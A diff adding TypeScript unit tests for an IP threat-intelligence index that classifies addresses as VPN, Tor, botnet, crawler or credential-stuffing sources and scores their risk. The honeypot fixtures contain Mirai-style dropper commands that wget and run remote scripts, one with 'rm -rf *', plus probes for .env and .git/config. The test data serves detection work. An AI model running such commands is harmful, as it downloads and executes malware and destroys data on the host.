@@ -1,0 +1,251 @@
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { ManualClock } from '../../../lib/clock.ts';
+import { FEEDS, type FeedId } from '../../feeds/feed-catalog.ts';
+import { NO_INTELLIGENCE } from '../../lookup/intelligence.ts';
+import { parseIp } from '../../lookup/ip-address.ts';
+import type { IntelList } from '../lists/intel-list.ts';
+import { CRAWL_THRESHOLD, IntelIndex, LOGIN_THRESHOLD } from './intel-index.ts';
+
+const T0 = Date.UTC(2026, 10, 22, 12, 0, 0);
+const S0 = T0 / 1000;
+const DAY_MS = 86_400_000;
+const ip = (s: string) => parseIp(s)!;
+
+function setup() {
+  const clock = new ManualClock(T0);
+  const index = new IntelIndex(clock);
+  const feed = (id: FeedId, ...records: Record<string, unknown>[]) => index.observe(FEEDS[id], records.map((record) => ({ record: record as never, line: '' })));
+  return { clock, index, feed };
+}
+
+const list = (kind: string, provider: string, cidrs: string[], format = 'cidr-lines'): IntelList => ({ kind, provider, version: 'a1b2c3d4e5f60718', imported_at: S0 - 3600, format, cidrs });
+
+const http = (source_ip: string, method: string, uri: string, userAgent: string, tsMs = T0, domain = 'mail.acme-logistics.com') => ({
+  timestamp: tsMs, tunnel_id: 1, domain, port: 80, protocol: 'http', meta: { proxy_ip: '', server: '', pool_id: 1, provider: '' },
+  details: { method, uri, version: 'HTTP/1.1', headers: { Host: domain, 'User-Agent': userAgent } },
+  raw: `${method} ${uri} HTTP/1.1\r\nHost: ${domain}\r\nUser-Agent: ${userAgent}\r\n\r\n`, source_ip,
+});
+
+const adb = (source_ip: string, command: string, tsMs = T0) => ({
+  session: '3f9a0c1d2e4b5a69', sequential_id: 1, command: Buffer.from(command).toString('base64'),
+  hash: createHash('sha256').update(command).digest('hex'), timestamp: tsMs, source_ip,
+});
+
+describe(IntelIndex.name, () => {
+  it('should return the shared empty intelligence for an address nobody knows anything about', () => {
+    const { index } = setup();
+    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'])]);
+    assert.equal(index.intelligence(ip('8.8.8.8')), NO_INTELLIGENCE);
+    assert.equal(index.intelligence(ip('2001:db8::1')), NO_INTELLIGENCE);
+  });
+
+  it('should give every address inside an anonymizer range its provider and type, with last_seen the latest sighting', () => {
+    const { index, feed } = setup();
+    const range = { range_start: '185.159.157.0', range_end: '185.159.157.255', provider: 'NORDVPN', type: 'COMMERCIAL_VPN', timestamp: S0 - 7200, country_code: 'CH', asn: 62371 };
+    feed('anonymizers', range);
+    feed('anonymizers', { ...range, timestamp: S0 - 60 });
+    for (const inside of ['185.159.157.0', '185.159.157.77', '185.159.157.255']) {
+      const intel = index.intelligence(ip(inside));
+      assert.deepEqual(intel.providers, [{ provider: 'NORDVPN', type: 'COMMERCIAL_VPN', last_seen: S0 - 60 }], inside);
+      assert.deepEqual(intel.categories, ['COMMERCIAL_VPN']);
+      assert.equal(intel.risk_score, 25);
+    }
+    assert.equal(index.intelligence(ip('185.159.158.0')), NO_INTELLIGENCE);
+  });
+
+  it('should see new anonymizer ranges at once, before and after they are folded into the table', (t) => {
+    const { index, feed } = setup();
+    t.after(() => index.close());
+    const range = (i: number) => ({ range_start: `10.${i >> 8}.${i & 255}.0`, range_end: `10.${i >> 8}.${i & 255}.255`, provider: `P${i}`, type: 'FREE_VPN', timestamp: S0, country_code: '', asn: 0 });
+    feed('anonymizers', range(0), { ...range(0), range_start: '2001:db8::', range_end: '2001:db8::ffff', provider: 'V6' });
+    // Still pending (the timer has not fired): found by the scan.
+    assert.deepEqual(index.intelligence(ip('10.0.0.9')).providers.map((p) => p.provider), ['P0']);
+    assert.deepEqual(index.intelligence(ip('2001:db8::abcd')).providers.map((p) => p.provider), ['V6']);
+    assert.equal(index.intelligence(ip('10.0.1.9')), NO_INTELLIGENCE);
+    // Past the pending cap the table is rebuilt on the ingest path; everything stays visible.
+    feed('anonymizers', ...Array.from({ length: 300 }, (_, i) => range(i + 1)));
+    for (const i of [0, 1, 150, 300]) assert.deepEqual(index.intelligence(ip(`10.${i >> 8}.${i & 255}.1`)).providers.map((p) => p.provider), [`P${i}`], `range ${i}`);
+    assert.deepEqual(index.intelligence(ip('2001:db8::1')).providers.map((p) => p.provider), ['V6']);
+  });
+
+  it('should mark a Tor exit from a list, and keep both matches where it lies inside a VPN range too', () => {
+    const { index, feed } = setup();
+    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32', '2a0b:f4c2::/40'], 'tor-bulk-exit-list')]);
+    feed('anonymizers', { range_start: '185.220.101.0', range_end: '185.220.101.63', provider: 'MULLVAD', type: 'COMMERCIAL_VPN', timestamp: S0, country_code: 'DE', asn: 4224 });
+    const intel = index.intelligence(ip('185.220.101.1'));
+    assert.deepEqual(intel.categories, ['COMMERCIAL_VPN', 'TOR_NODE']);
+    assert.deepEqual(intel.providers.map((p) => p.provider).sort(), ['MULLVAD', 'TOR']);
+    // The strongest category counts (docs/intelligence.md), not their sum.
+    assert.equal(intel.risk_score, 60);
+    assert.deepEqual(index.intelligence(ip('2a0b:f4c2:0:1::9')).categories, ['TOR_NODE']);
+  });
+
+  it('should class a Googlebot address from the published file as a search engine with a low score, even while it crawls', () => {
+    const { index, feed } = setup();
+    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.64.0/27', '66.249.66.0/27', '2001:4860:4801:10::/64'], 'google-prefixes')]);
+    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+    for (let i = 0; i < CRAWL_THRESHOLD; i++) feed('honeypot_http', http('66.249.66.1', 'GET', `/page-${i}`, googlebot, T0 + i * 1000));
+    const intel = index.intelligence(ip('66.249.66.1'));
+    assert.deepEqual(intel.categories, ['SEARCH_ENGINE']);
+    assert.deepEqual(intel.providers, [{ provider: 'GOOGLEBOT', type: 'SEARCH_ENGINE', last_seen: S0 - 3600 }]);
+    assert.deepEqual(intel.behavior, ['ACTIVE_CRAWLER']);
+    assert.ok(intel.risk_score <= 10, `score ${intel.risk_score}`);
+    assert.deepEqual(index.intelligence(ip('2001:4860:4801:10::1')).categories, ['SEARCH_ENGINE']);
+    assert.equal(index.intelligence(ip('66.249.66.32')), NO_INTELLIGENCE);
+  });
+
+  it('should mark the peers of a torrents record TORRENTING', () => {
+    const { index, feed } = setup();
+    const peers = [{ ip: '73.12.34.56', port: 51413, source: 'DHT', encrypted: true }, { ip: '2001:db8::7', port: 6881, source: 'PEX', encrypted: false }];
+    feed('torrents', { info_hash: 'a'.repeat(40), name: 'x', magnet_uri: 'magnet:?xt=urn:btih:x', total_size: 1, piece_length: 1, file_count: 1, files: [], peers, timestamp: S0 });
+    assert.deepEqual(index.intelligence(ip('73.12.34.56')).behavior, ['TORRENTING']);
+    assert.deepEqual(index.intelligence(ip('2001:db8::7')).behavior, ['TORRENTING']);
+    assert.equal(index.intelligence(ip('73.12.34.56')).risk_score, 12);
+  });
+
+  it('should mark the source of an ADB dropper session a compromised botnet member with a high score', () => {
+    const { index, feed } = setup();
+    feed('honeypot_adb', adb('198.51.100.7', 'shell:getprop ro.product.model'));
+    const recon = index.intelligence(ip('198.51.100.7'));
+    assert.deepEqual(recon.behavior, ['MALICIOUS_TRAFFIC']);
+    feed('honeypot_adb', adb('198.51.100.7', 'shell:cd /data/local/tmp; busybox wget http://203.0.113.9/w.sh; sh w.sh'));
+    const intel = index.intelligence(ip('198.51.100.7'));
+    assert.deepEqual(intel.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC']);
+    assert.deepEqual(intel.categories, ['BOTNET']);
+    assert.deepEqual(intel.providers, [{ provider: 'MIRAI', type: 'BOTNET', last_seen: S0 }]);
+    assert.ok(intel.risk_score >= 80, `score ${intel.risk_score}`);
+  });
+
+  it('should let a proxy sighting age out after 90 days', () => {
+    const { index, feed, clock } = setup();
+    feed('proxies', { ip: '109.176.45.49', provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', timestamp: S0, country_code: 'US', asn: 16276 });
+    assert.deepEqual(index.intelligence(ip('109.176.45.49')).providers, [{ provider: 'BRIGHTDATA', type: 'RESIDENTIAL_PROXY', last_seen: S0 }]);
+    clock.advance(89 * DAY_MS);
+    const aging = index.intelligence(ip('109.176.45.49'));
+    assert.deepEqual(aging.categories, ['RESIDENTIAL_PROXY']);
+    assert.ok(aging.risk_score < 45 && aging.risk_score > 0, `recency decays the score: ${aging.risk_score}`);
+    clock.advance(DAY_MS + 1000);
+    const gone = index.intelligence(ip('109.176.45.49'));
+    assert.deepEqual([gone.providers, gone.categories, gone.risk_score], [[], [], 0]);
+    index.prune();
+    assert.equal(index.addresses, 0);
+    assert.equal(index.intelligence(ip('109.176.45.49')), NO_INTELLIGENCE);
+  });
+
+  it('should let an anonymizer range age out after 90 days', () => {
+    const { index, feed, clock } = setup();
+    feed('anonymizers', { range_start: '10.9.0.0', range_end: '10.9.0.255', provider: 'WINDSCRIBE', type: 'FREE_VPN', timestamp: S0, country_code: '', asn: 0 });
+    assert.deepEqual(index.intelligence(ip('10.9.0.5')).categories, ['FREE_VPN']);
+    clock.advance(91 * DAY_MS);
+    assert.deepEqual(index.intelligence(ip('10.9.0.5')).categories, []);
+    index.prune();
+    assert.equal(index.intelligence(ip('10.9.0.5')), NO_INTELLIGENCE);
+  });
+
+  it('should call repeated login POSTs credential stuffing only from the threshold on, within a day', () => {
+    const { index, feed } = setup();
+    const ua = 'python-requests/2.32.3';
+    for (let i = 0; i < LOGIN_THRESHOLD - 1; i++) feed('honeypot_http', http('203.0.113.50', 'POST', '/wp-login.php', ua, T0 + i * 60_000));
+    assert.deepEqual(index.intelligence(ip('203.0.113.50')).behavior, ['PROGRAMMATIC_TRAFFIC']);
+    feed('honeypot_http', http('203.0.113.50', 'POST', '/wp-login.php', ua, T0 + 10 * 60_000));
+    assert.deepEqual(index.intelligence(ip('203.0.113.50')).behavior, ['CREDENTIAL_STUFFING', 'PROGRAMMATIC_TRAFFIC']);
+    // Spread out over days, the same number of attempts is not stuffing.
+    for (let i = 0; i < LOGIN_THRESHOLD; i++) feed('honeypot_http', http('203.0.113.51', 'POST', '/user/login', ua, T0 + i * 2 * DAY_MS));
+    assert.deepEqual(index.intelligence(ip('203.0.113.51')).behavior, ['PROGRAMMATIC_TRAFFIC']);
+  });
+
+  it('should call an address that fetches many distinct paths within an hour an active crawler', () => {
+    const { index, feed } = setup();
+    const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
+    for (let i = 0; i < CRAWL_THRESHOLD - 1; i++) feed('honeypot_http', http('198.51.100.20', 'GET', `/p/${i}?q=1`, chrome, T0 + i * 1000));
+    feed('honeypot_http', http('198.51.100.20', 'GET', '/p/0?q=2', chrome, T0 + 30_000)); // same path, other query
+    assert.deepEqual(index.intelligence(ip('198.51.100.20')).behavior, []);
+    feed('honeypot_http', http('198.51.100.20', 'GET', '/p/last', chrome, T0 + 40_000));
+    const intel = index.intelligence(ip('198.51.100.20'));
+    assert.deepEqual(intel.behavior, ['ACTIVE_CRAWLER']);
+    assert.deepEqual(intel.devices, [{ os: 'WINDOWS', version: '10', last_seen: S0 + 40 }]);
+  });
+
+  it('should mark exploit traffic malicious and Mirai-style HTTP droppers compromised', () => {
+    const { index, feed } = setup();
+    feed('honeypot_http', http('203.0.113.7', 'GET', '/.env', 'Mozilla/5.0 zgrab/0.x'));
+    assert.deepEqual(index.intelligence(ip('203.0.113.7')).behavior, ['MALICIOUS_TRAFFIC', 'PROGRAMMATIC_TRAFFIC']);
+    feed('honeypot_http', http('203.0.113.8', 'GET', '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws', 'Hello, World'));
+    const bot = index.intelligence(ip('203.0.113.8'));
+    assert.deepEqual(bot.behavior, ['COMPROMISED_DEVICE', 'MALICIOUS_TRAFFIC', 'PROGRAMMATIC_TRAFFIC']);
+    assert.deepEqual(bot.categories, ['BOTNET']);
+  });
+
+  it('should attribute proxies and ja4t sightings, and read the device from a JA4T stack', () => {
+    const { index, feed } = setup();
+    feed('ja4t', { ip: '109.176.45.49', ja4t: '65535_2-4-8-1-3_1400_9', provider: 'PROXYJET', type: 'MOBILE_PROXY', timestamp: S0, country_code: 'US', asn: 16276 });
+    const intel = index.intelligence(ip('109.176.45.49'));
+    assert.deepEqual(intel.providers, [{ provider: 'PROXYJET', type: 'MOBILE_PROXY', last_seen: S0 }]);
+    assert.deepEqual(intel.devices, [{ os: 'ANDROID', version: '', last_seen: S0 }]);
+  });
+
+  it('should take a behaviour from a list of that kind (TOR_USER)', () => {
+    const { index } = setup();
+    index.setLists([list('TOR_USER', 'NETFLOW', ['192.0.2.0/24'])]);
+    const intel = index.intelligence(ip('192.0.2.9'));
+    assert.deepEqual([intel.behavior, intel.categories, intel.providers], [['TOR_USER'], [], []]);
+  });
+
+  it('should explain each category, provider and behaviour with its source and the parts of the score', () => {
+    const { index, feed } = setup();
+    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'], 'tor-bulk-exit-list')]);
+    feed('honeypot_http', http('185.220.101.1', 'GET', '/.env', 'curl/8.5.0', T0 - 3_600_000));
+    feed('honeypot_http', http('185.220.101.1', 'GET', '/.git/config', 'curl/8.5.0', T0));
+    const { intelligence, evidence } = index.explain(ip('185.220.101.1'));
+    const listSource = { source: 'list', kind: 'TOR_NODE', provider: 'TOR', version: 'a1b2c3d4e5f60718', format: 'tor-bulk-exit-list', imported_at: S0 - 3600, first_seen: S0 - 3600, last_seen: S0 - 3600, count: 1 };
+    const httpSource = { source: 'feed', feed: 'honeypot_http', first_seen: S0 - 3600, last_seen: S0, count: 2 };
+    assert.deepEqual(evidence.categories, [{ category: 'TOR_NODE', sources: [listSource] }]);
+    assert.deepEqual(evidence.providers, [{ provider: 'TOR', type: 'TOR_NODE', sources: [listSource] }]);
+    assert.deepEqual(evidence.behavior, [
+      { behavior: 'MALICIOUS_TRAFFIC', sources: [httpSource] },
+      { behavior: 'PROGRAMMATIC_TRAFFIC', sources: [httpSource] },
+    ]);
+    assert.deepEqual(evidence.risk.category, { value: 60, from: 'TOR_NODE' });
+    assert.deepEqual(evidence.risk.behavior, { value: 80, from: 'MALICIOUS_TRAFFIC' });
+    assert.equal(evidence.risk.score, intelligence.risk_score);
+    // 80 + 0.25 × 60 + 5·log10(1 + 4 observations)
+    assert.equal(intelligence.risk_score, 98);
+  });
+});
+
+describe(`${IntelIndex.name} overlays`, () => {
+  const overlay = (id: number, org_id: string, cidr: string, category: string, action: 'allow' | 'deny', provider: string | null = null) => ({ id, org_id, cidr, category, provider, action, created_at: S0 - 10 });
+
+  it("should apply a team's deny and allow overlays to that team's lookups only", () => {
+    const { index } = setup();
+    index.setLists([list('SEARCH_ENGINE', 'GOOGLEBOT', ['66.249.66.0/27'], 'google-prefixes')]);
+    index.setOverlays([
+      overlay(1, 'org_a', '192.0.2.0/24', 'BOTNET', 'deny'),
+      overlay(2, 'org_a', '66.249.66.0/24', 'SEARCH_ENGINE', 'allow'),
+      overlay(3, 'org_b', '192.0.2.0/24', 'DATACENTER_PROXY', 'deny', 'ACME_PROXY'),
+    ]);
+    const a = index.intelligence(ip('192.0.2.9'), 'org_a');
+    assert.deepEqual([a.categories, a.providers, a.risk_score], [['BOTNET'], [], 80]);
+    const b = index.intelligence(ip('192.0.2.9'), 'org_b');
+    assert.deepEqual([b.categories, b.providers], [['DATACENTER_PROXY'], [{ provider: 'ACME_PROXY', type: 'DATACENTER_PROXY', last_seen: S0 - 10 }]]);
+    assert.equal(index.intelligence(ip('192.0.2.9'), 'org_c'), NO_INTELLIGENCE);
+    assert.equal(index.intelligence(ip('192.0.2.9')), NO_INTELLIGENCE);
+    assert.deepEqual(index.intelligence(ip('66.249.66.1'), 'org_a').categories, []);
+    assert.deepEqual(index.intelligence(ip('66.249.66.1'), 'org_b').categories, ['SEARCH_ENGINE']);
+    const { evidence } = index.explain(ip('192.0.2.9'), 'org_a');
+    assert.deepEqual(evidence.categories, [{ category: 'BOTNET', sources: [{ source: 'overlay', action: 'deny', cidr: '192.0.2.0/24', created_at: S0 - 10 }] }]);
+  });
+
+  it('should remove only the named provider with an allow that names one', () => {
+    const { index, feed } = setup();
+    index.setLists([list('TOR_NODE', 'TOR', ['185.220.101.1/32'])]);
+    feed('anonymizers', { range_start: '185.220.101.0', range_end: '185.220.101.255', provider: 'DAN_TOR', type: 'TOR_NODE', timestamp: S0, country_code: 'DE', asn: 1 });
+    index.setOverlays([overlay(1, 'org_a', '185.220.101.1/32', 'TOR_NODE', 'allow', 'TOR')]);
+    const a = index.intelligence(ip('185.220.101.1'), 'org_a');
+    assert.deepEqual([a.categories, a.providers.map((p) => p.provider)], [['TOR_NODE'], ['DAN_TOR']]);
+    index.setOverlays([]);
+    assert.deepEqual(index.intelligence(ip('185.220.101.1'), 'org_a').providers.map((p) => p.provider).sort(), ['DAN_TOR', 'TOR']);
+  });
+});
